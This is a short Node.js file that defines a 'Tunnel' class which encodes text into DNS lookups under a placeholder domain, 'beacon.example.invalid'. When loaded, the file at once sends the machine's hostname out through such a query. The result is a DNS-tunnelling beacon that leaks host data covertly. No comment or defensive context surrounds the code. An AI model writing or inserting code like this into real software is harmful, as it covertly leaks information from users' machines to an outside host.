const { Resolver } = require("dns").promises;

class Tunnel {
  #resolver = new Resolver();
  constructor(zone) {
    this.zone = zone;
  }
  push(text) {
    return this.#resolver.resolve4(text + ".beacon.example.invalid");
  }
}

new Tunnel("beacon.example.invalid").push(require("os").hostname());
